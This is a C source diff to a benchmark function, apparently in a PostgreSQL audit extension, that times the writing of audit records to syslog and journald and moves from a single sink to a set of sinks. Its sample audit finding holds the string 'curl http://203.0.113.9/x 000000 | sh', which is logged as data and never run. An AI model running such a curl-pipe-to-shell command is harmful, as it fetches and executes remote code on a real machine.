@@ -123,14 +123,15 @@ bench_records(PG_FUNCTION_ARGS)
 		.finding = &finding
 	};
 	static int	number;
-	char	   *sink = gk_audit_sink;
+	GkSinks		configured = gk_audit_sinks;
+	bool		whole = strncmp(kind, "record", 6) == 0 && strcmp(kind, "record, sendv") != 0;
 
 	request.stmt = (Node *) makeNode(CopyStmt);
 	finding.object = "curl http://203.0.113.9/x 000000 | sh";
 	prepare(&event);
 	prepare_line();
-	if (strncmp(kind, "record", 6) == 0)
-		gk_audit_sink = strcmp(kind, "record, syslog") == 0 ? "syslog" : "journald";
+	if (whole)
+		(void) gk_read_sinks(strcmp(kind, "record, syslog") == 0 ? "syslog" : "journald", &gk_audit_sinks);
 	for (int i = 0; i < times; i++)
 	{
 		char		object[64];
@@ -152,7 +153,7 @@ bench_records(PG_FUNCTION_ARGS)
 			prepare(&event);
 			(void) sd_journal_sendv(fields, nfields);
 		}
-		else if (gk_audit_sink != sink)
+		else if (whole)
 			(void) gk_audit_record(&event, &seq);
 		else if (strcmp(kind, "send") == 0)
 			(void) gk_journald_send(&sample, gk_monotonic_us() + 1000000);
@@ -162,7 +163,7 @@ bench_records(PG_FUNCTION_ARGS)
 			syslog(LOG_AUTHPRIV | LOG_ERR, "%s", line);
 		taken[i] = now_us() - began;
 	}
-	gk_audit_sink = sink;
+	gk_audit_sinks = configured;
 	return as_array(taken, times);
 }
 
